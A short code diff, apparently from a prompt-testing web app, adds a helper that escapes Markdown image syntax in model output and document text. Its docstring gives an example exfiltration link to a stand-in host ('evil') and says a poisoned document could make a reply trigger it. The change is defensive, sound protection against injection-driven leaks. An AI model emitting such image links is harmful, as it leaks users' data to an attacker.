@@ -43,6 +43,12 @@ def model_picker(key: str, *, label: str = "Model", default: str | None = None) 
     return choice
 
 
+def inert_markdown(text: str) -> str:
+    """Model output and document text as Markdown, minus images: a reply (or a poisoned
+    document) could otherwise make the browser fetch ![](https://evil/?leak=...)."""
+    return text.replace("![", "!\\[")
+
+
 def show_error(error: PromptLabError) -> None:
     st.error(str(error), icon=":material/error:")
 
